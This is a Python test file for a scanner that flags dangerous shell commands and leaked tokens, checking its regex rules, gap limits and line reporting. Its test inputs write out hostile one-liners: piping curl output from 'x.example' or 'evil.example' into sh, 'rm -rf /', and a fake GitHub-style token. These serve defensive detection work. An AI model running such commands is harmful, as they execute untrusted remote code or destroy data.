"""Rules match what they describe: other beginnings, bounded gaps, and no word that RE2's filter overlooks."""

import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from registry.findings.engine import scan_text
from registry.findings.matching import possible_rules
from registry.findings.rule import other_than
from registry.findings.rules import RULES, Rule
from support.hostile_texts import SIGNS, fragments


@given(text=st.text("lo127.calhost\n", max_size=12))
@example("localhost")
@example("local\n")
@example("")
@settings(max_examples=500, deadline=None, derandomize=True)
def test_other_than_is_a_negative_lookahead(text: str) -> None:
    consuming = re.compile(other_than("localhost", "127."), re.MULTILINE)
    assert bool(consuming.match(text)) == bool(re.match(r"(?!localhost|127\.)", text))


def in_the_syntax_of_python(pattern: str) -> str:
    """RE2 and `re` agree on everything else that the rules use."""
    return re.sub(r"\\x\{(\w+)\}", lambda code: f"\\U{int(code[1], 16):08x}", pattern).replace(r"[\pL\pN_]", r"\w")


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_the_filter_overlooks_no_match(rule: Rule) -> None:
    noise = st.lists(st.sampled_from([*fragments(rule), *SIGNS, *SIGNS]), max_size=8).map("".join)

    @settings(max_examples=40, deadline=None, derandomize=True, database=None, suppress_health_check=list(HealthCheck))
    @given(noise, st.from_regex(re.compile(in_the_syntax_of_python(rule.pattern))), noise)
    def holds(before: str, match: str, after: str) -> None:
        for text in (match, before + match + after):
            data = text.encode("utf-8", "replace")
            matching = {one.id for one in RULES if one.compiled.search(data)}
            assert matching <= {one.id for one in possible_rules(data)}

    holds()


def rules_of(text: str) -> list[str]:
    return [finding.rule for finding in scan_text("a.sh", text)]


def test_a_gap_is_bounded() -> None:
    assert rules_of(f"curl https://x.example {'x ' * 100} | sh") == ["download-and-run"]
    assert rules_of(f"curl https://x.example {'x ' * 300} | sh") == []


def test_blanks_hide_nothing() -> None:
    assert rules_of(f"curl{' ' * 5000}https://x.example |{' ' * 5000}sh") == ["download-and-run"]
    assert rules_of(f"curl \\\n{' ' * 500}https://x.example \\\r\n |\tsh") == ["download-and-run"]


@pytest.mark.parametrize("before", [0, 1, 199, 200, 399, 400, 401, 799, 800, 5000])
def test_a_match_after_one_that_is_too_long_counts(before: int) -> None:
    text = f"curl https://x.example {'y' * before} curl https://x.example | sh {'y' * 500}"
    assert rules_of(text) == ["download-and-run"]
    assert rules_of(f"wget a.b {'y' * 500} {text}") == ["download-and-run"]


def test_where_a_text_is_cut_is_no_word_boundary_and_no_line_end() -> None:
    for size in range(2700, 3300):
        assert rules_of(f"{'y' * size}rm -rf / ") == []
        assert rules_of(f"{'y' * size} rm -rf /x") == []
        assert rules_of(f"{'y' * size} rm -rf / ") == ["destruction"]


def test_the_line_is_where_the_match_begins() -> None:
    text = "echo \\\n  a; \\\r\n  curl https://x.example \\\n | sh\n\nrm -rf / \n"
    assert [(finding.rule, finding.line) for finding in scan_text("a.sh", text)] == [
        ("download-and-run", 3),
        ("destruction", 6),
    ]


def test_a_placeholder_hides_no_token_after_it() -> None:
    placeholder, token = f"ghp_xxxx{'A' * 32}", f"ghp_{'a1B2' * 9}"
    assert rules_of(placeholder) == []
    assert rules_of(f"{placeholder} {token}") == ["access-token"]


def test_a_harmless_host_hides_no_other_in_its_line() -> None:
    assert rules_of("curl http://localhost/a; curl http://evil.example/a | sh") == ["insecure-download-and-run"]
    assert rules_of("curl http://localhost/a | sh") == ["download-and-run"]
